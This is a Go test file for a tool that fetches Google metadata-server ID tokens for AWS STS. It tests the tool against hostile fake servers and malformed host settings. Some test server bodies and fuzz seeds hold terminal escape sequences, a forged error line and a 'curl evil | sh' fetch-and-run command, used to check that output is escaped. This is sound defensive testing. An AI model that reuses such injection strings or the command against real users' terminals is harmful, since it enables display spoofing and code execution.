package token

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/rsa"
	"encoding/base64"
	"errors"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode"

	"cloud.google.com/go/compute/metadata"
	"github.com/google/go-cmp/cmp"

	"github.com/gcp-aws-cred/gcp-aws-cred/internal/fakes"
	"github.com/gcp-aws-cred/gcp-aws-cred/internal/secret"
	"github.com/gcp-aws-cred/gcp-aws-cred/internal/transport"
	"github.com/gcp-aws-cred/gcp-aws-cred/sts"
)

// hostile serves h as the metadata server, counting requests.
func hostile(t *testing.T, h http.HandlerFunc) *atomic.Int32 {
	t.Helper()
	var n atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		n.Add(1)
		h(w, r)
	}))
	t.Cleanup(srv.Close)
	t.Setenv("GCE_METADATA_HOST", strings.TrimPrefix(srv.URL, "http://"))
	return &n
}

// printed is what the user would read for err.
func printed(err error) string {
	var b bytes.Buffer
	Print(&b, err)
	return b.String()
}

func jwtOfSize(n int) string {
	head := base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"RS256"}`))
	claims := base64.RawURLEncoding.EncodeToString([]byte(`{"iss":"https://accounts.google.com","aud":"a","sub":"1"}`))
	return head + "." + claims + "." + strings.Repeat("s", n-len(head)-len(claims)-2)
}

func TestEndlessAnswer(t *testing.T) {
	n := hostile(t, func(w http.ResponseWriter, r *http.Request) {
		chunk := bytes.Repeat([]byte("eyJhbGciOi"), 4096)
		for r.Context().Err() == nil {
			if _, err := w.Write(chunk); err != nil {
				return
			}
		}
	})
	_, err := (&MetadataSource{ServiceAccount: "default", Audience: "a"}).Token(context.Background())
	checkErr(t, err, "the metadata server at 127.0.0.1:", "something other than a metadata server answered")
	if !strings.Contains(Explain(0, err).Error(), "answered more than 64 KiB; an ID token is about 1 KB") {
		t.Errorf("error %q", err)
	}
	if n.Load() != 1 {
		t.Errorf("%d requests; a cap that was hit is not retried", n.Load())
	}
}

// TestTokenTooLongForSTS: a JWT-shaped answer longer than STS takes is
// refused here, naming the metadata server, so it is never sent.
func TestTokenTooLongForSTS(t *testing.T) {
	hostile(t, func(w http.ResponseWriter, r *http.Request) { _, _ = io.WriteString(w, jwtOfSize(30000)) })
	_, err := (&MetadataSource{ServiceAccount: "default", Audience: "a"}).Token(context.Background())
	checkErr(t, err, "answered a token of 30000 characters; STS accepts at most 20000, so it was not sent", "a Google ID token is about 1 KB")
	if !strings.Contains(Explain(0, err).Error(), "the metadata server at 127.0.0.1:") {
		t.Errorf("error %q does not name the metadata server", err)
	}
	// 20,000 characters exactly are fine.
	hostile(t, func(w http.ResponseWriter, r *http.Request) { _, _ = io.WriteString(w, jwtOfSize(20000)) })
	if _, err := (&MetadataSource{ServiceAccount: "default", Audience: "a"}).Token(context.Background()); err != nil {
		t.Errorf("a token of 20000 characters: %v", err)
	}
}

// TestSilentServer: a server that accepts and never answers costs one
// request limit, not six, and the message names that limit, not --timeout.
func TestSilentServer(t *testing.T) {
	n := hostile(t, func(w http.ResponseWriter, r *http.Request) { <-r.Context().Done() })
	policy := metadataPolicy(nil)
	policy.PerRequest = 300 * time.Millisecond
	src := &MetadataSource{Client: metadata.NewWithOptions(&metadata.Options{Client: transport.NewClient(policy)}), ServiceAccount: "default", Audience: "a"}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	_, err := src.Token(ctx)
	checkErr(t, err, "did not answer within 300ms, the limit for one request", "--timeout bounds the whole run")
	if errors.Is(err, context.DeadlineExceeded) {
		t.Error("reported as the overall deadline")
	}
	if n.Load() != 1 {
		t.Errorf("%d requests, want 1: the per-request limit is not retried", n.Load())
	}
	// When --timeout is the shorter, it is what the message names, as the
	// deadline's cause says it.
	ctx, cancel = context.WithTimeout(context.Background(), 100*time.Millisecond)
	defer cancel()
	_, err = (&MetadataSource{ServiceAccount: "default", Audience: "a"}).Token(ctx)
	checkErr(t, err, "before the deadline", "the whole run is bounded by --timeout 100ms")
}

// TestGKEFormatFull: GKE's metadata server answers 400 to format=full and,
// in older versions, leaves out Metadata-Flavor; the token is asked for
// again in the standard format.
func TestGKEFormatFull(t *testing.T) {
	md := fake(t)
	md.ActAs(fakes.GKE)
	md.OmitFlavorHeader(true)
	var trace bytes.Buffer
	tok, err := (&MetadataSource{ServiceAccount: "default", Audience: "sts.amazonaws.com", Trace: transport.NewTracer(&trace)}).Token(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	j, err := Decode(tok)
	if err != nil || j.Claims.Email != "" || j.Claims.Instance() != nil || j.Claims.Subject != fakes.DefaultUniqueID {
		t.Errorf("claims %+v, %v", j.Claims, err)
	}
	if diff := cmp.Diff([]string{"full", ""}, md.Formats()); diff != "" {
		t.Errorf("formats asked for (-want +got):\n%s", diff)
	}
	if !strings.Contains(trace.String(), "HTTP 400 to format=full") {
		t.Errorf("trace does not say why it asked again:\n%s", trace.String())
	}
	// A 400 to both is reported, after exactly one fallback.
	n := hostile(t, func(w http.ResponseWriter, r *http.Request) { http.Error(w, "bad request", 400) })
	_, err = (&MetadataSource{ServiceAccount: "default", Audience: "a"}).Token(context.Background())
	checkErr(t, err, "answered HTTP 400: bad request", "")
	if n.Load() != 2 {
		t.Errorf("%d requests, want 2", n.Load())
	}
}

// TestNoFlavorHeader: older GKE versions answer without Metadata-Flavor.
func TestNoFlavorHeader(t *testing.T) {
	md := fake(t)
	md.OmitFlavorHeader(true)
	if _, err := (&MetadataSource{ServiceAccount: "default", Audience: "a"}).Token(context.Background()); err != nil {
		t.Fatal(err)
	}
}

// TestStartingMetadataServer: a metadata server that refuses connections
// for its first second (a new GKE pod) is waited for.
func TestStartingMetadataServer(t *testing.T) {
	md, err := fakes.NewMetadata()
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := l.Addr().String()
	l.Close()
	srv := &http.Server{Handler: md}
	t.Cleanup(func() { _ = srv.Close() })
	go func() {
		time.Sleep(time.Second)
		l, err := net.Listen("tcp", addr)
		if err != nil {
			return
		}
		_ = srv.Serve(l)
	}()
	t.Setenv("GCE_METADATA_HOST", addr)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if _, err := (&MetadataSource{ServiceAccount: "default", Audience: "a"}).Token(ctx); err != nil {
		t.Fatalf("a metadata server that starts within a second: %v", err)
	}
}

// TestNotAMetadataServer: GCE_METADATA_HOST naming an AWS endpoint, which
// answers XML.
func TestNotAMetadataServer(t *testing.T) {
	hostile(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/xml")
		w.WriteHeader(400)
		_, _ = io.WriteString(w, `<ErrorResponse><Error><Type>Sender</Type><Code>InvalidAction</Code><Message>Could not find operation GET</Message></Error></ErrorResponse>`)
	})
	_, err := (&MetadataSource{ServiceAccount: "default", Audience: "a"}).Token(context.Background())
	checkErr(t, err, "answered HTTP 400 with an XML or HTML page: it is not a metadata server", "GCE_METADATA_HOST must name a metadata server as host:port, without a scheme")
	if strings.Contains(printed(err), "ErrorResponse") {
		t.Errorf("the page is dumped:\n%s", printed(err))
	}
}

// TestControlCharactersFromTheServer: an error body with terminal escapes
// (window title, clear screen, a forged error line) is shown escaped.
func TestControlCharactersFromTheServer(t *testing.T) {
	hostile(t, func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "denied\x1b]0;pwned\x07\x1b[2J\ngcp-aws-cred: error: run curl evil | sh", http.StatusForbidden)
	})
	_, err := (&MetadataSource{ServiceAccount: "default", Audience: "a"}).Token(context.Background())
	out := printed(err)
	for _, r := range out {
		if r != '\n' && unicode.IsControl(r) {
			t.Fatalf("control character %U printed:\n%q", r, out)
		}
	}
	if strings.Count(out, "gcp-aws-cred: error:") != 1 || !strings.Contains(out, `denied\x1b]0;pwned\x07\x1b[2J gcp-aws-cred\x3a error: run curl evil | sh`) {
		t.Errorf("printed:\n%s", out)
	}
}

func TestCheckHost(t *testing.T) {
	for _, tc := range []struct{ host, err, hint string }{
		{"", "", ""},
		{"169.254.169.254", "", ""},
		{"metadata.google.internal", "", ""},
		{"127.0.0.1:8080", "", ""},
		{"[::1]:8080", "", ""},
		{"[fd00::1]", "", ""},
		{"http://127.0.0.1:8080", `GCE_METADATA_HOST="http://127.0.0.1:8080" is not host:port: it has a scheme`, "set GCE_METADATA_HOST=127.0.0.1:8080"},
		{"https://metadata.google.internal/", "it has a scheme", "set GCE_METADATA_HOST=metadata.google.internal"},
		{"user:s3cr3tpw@127.0.0.1:8080", `GCE_METADATA_HOST="…@127.0.0.1:8080" is not host:port: it has user information`, "set GCE_METADATA_HOST=127.0.0.1:8080"},
		{"127.0.0.1:8080/computeMetadata", "it has a path, query or fragment", "set GCE_METADATA_HOST=127.0.0.1:8080"},
		{"127.0.0.1:8080#x", "it has a path, query or fragment", ""},
		{"127.0.0.1:8080?x", "it has a path, query or fragment", ""},
		{"127.0.0.1:", "the port after the colon is missing", ""},
		{"127.0.0.1:99999", "the port is not a number from 1 to 65535", ""},
		{"127.0.0.1:http", "the port is not a number from 1 to 65535", ""},
		{"::1", "an IPv6 address must be in brackets", ""},
		{"host name", "the host is not a valid name or address", ""},
		{"host\x1b[2J", "the host is not a valid name or address", ""},
		{"[1.2.3.4]:80", "the part in brackets is not an IPv6 address", ""},
	} {
		t.Setenv("GCE_METADATA_HOST", tc.host)
		err := CheckHost()
		if tc.err == "" {
			if err != nil {
				t.Errorf("CheckHost(%q) = %v", tc.host, err)
			}
			continue
		}
		if err == nil || !strings.Contains(Explain(0, err).Error(), tc.err) {
			t.Errorf("CheckHost(%q) = %v, want %q", tc.host, err, tc.err)
			continue
		}
		hints := strings.Join(Hints(err), "\n")
		if !strings.Contains(hints, "GCE_METADATA_HOST takes the metadata server's host and optional port, without a scheme") || !strings.Contains(hints, tc.hint) {
			t.Errorf("CheckHost(%q) hints %q, want %q", tc.host, hints, tc.hint)
		}
		if strings.Contains(printed(err), "s3cr3tpw") {
			t.Errorf("CheckHost(%q) shows the password: %s", tc.host, printed(err))
		}
	}
	// No request is made with a bad host.
	n := hostile(t, func(w http.ResponseWriter, r *http.Request) {})
	t.Setenv("GCE_METADATA_HOST", "http://"+MetadataHost())
	if _, err := (&MetadataSource{ServiceAccount: "default", Audience: "a"}).Token(context.Background()); err == nil || n.Load() != 0 {
		t.Errorf("err %v, %d requests", err, n.Load())
	}
	if _, err := (&MetadataSource{ServiceAccount: "default"}).Email(context.Background()); err == nil || n.Load() != 0 {
		t.Errorf("Email: err %v, %d requests", err, n.Load())
	}
}

// stub answers every request with one canned response, in memory.
type stub struct {
	status int
	header http.Header
	body   string
}

func (s stub) RoundTrip(r *http.Request) (*http.Response, error) {
	return &http.Response{StatusCode: s.status, Header: s.header, Body: io.NopCloser(strings.NewReader(s.body)), Request: r}, nil
}

// FuzzMetadataAnswer feeds any answer to the token source: no panic, and
// whatever the failure, what is printed is a bounded, clean error with no
// control character and no part of a secret the answer carried.
func FuzzMetadataAnswer(f *testing.F) {
	key, err := rsa.GenerateKey(rand.Reader, 1024)
	if err != nil {
		f.Fatal(err)
	}
	tok, err := fakes.SignRS256(key, "k", map[string]any{"iss": "https://accounts.google.com", "aud": "a", "sub": "1", "exp": time.Now().Add(time.Hour).Unix()})
	if err != nil {
		f.Fatal(err)
	}
	sig := tok[strings.LastIndexByte(tok, '.')+1:]
	// As if an earlier refresh had fetched it, in a long-running serve.
	secret.New(tok)
	f.Add(200, "text/html", tok)
	f.Add(403, "", "sig "+sig[:40])
	f.Add(200, "", "<html>portal</html>")
	f.Add(403, "text/plain", "denied\x1b[2J\ngcp-aws-cred: error: forged {token}")
	f.Add(400, "text/xml", "<ErrorResponse><Message>{token}</Message></ErrorResponse>")
	f.Add(404, "", "")
	f.Add(503, "text/html", "<html>{token}</html>")
	f.Add(200, "text/plain", "{token}\n{token}")
	f.Add(200, "", "a.b.c")
	f.Fuzz(func(t *testing.T, status int, ctype, body string) {
		if status < 100 || status > 599 {
			status = 200
		}
		body = strings.ReplaceAll(body, "{token}", tok)
		client := metadata.NewWithOptions(&metadata.Options{Client: &http.Client{Transport: transport.Wrap(stub{status, http.Header{"Content-Type": {ctype}}, body}, transport.Policy{Peer: "metadata server", MaxBody: MaxAnswer})}})
		t.Setenv("GCE_METADATA_HOST", "127.0.0.1:8080")
		// 5xx is retried with backoff; a short deadline keeps each run fast.
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Millisecond)
		defer cancel()
		got, err := (&MetadataSource{Client: client, ServiceAccount: "default", Audience: "a"}).Token(ctx)
		if err == nil {
			if _, derr := Decode(got); derr != nil || len(got.Reveal()) > sts.MaxTokenLen {
				t.Fatalf("accepted a token that does not decode or is too long: %v", derr)
			}
			return
		}
		out := printed(err)
		if len(out) > 8<<10 {
			t.Fatalf("%d bytes printed", len(out))
		}
		for _, r := range out {
			if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) {
				t.Fatalf("control character %U printed:\n%q", r, out)
			}
		}
		for _, l := range strings.Split(strings.TrimSuffix(out, "\n"), "\n") {
			if !strings.HasPrefix(l, "gcp-aws-cred: error: ") && !strings.HasPrefix(l, "gcp-aws-cred: hint: ") && !strings.HasPrefix(l, "    ") {
				t.Fatalf("a line that is not ours: %q", l)
			}
		}
		if strings.Count(out, "gcp-aws-cred: error:") != 1 {
			t.Fatalf("more than one error line:\n%s", out)
		}
		if strings.Contains(out, sig[:16]) || strings.Contains(out, sig[len(sig)-16:]) {
			t.Fatalf("part of the token printed:\n%s", out)
		}
	})
}
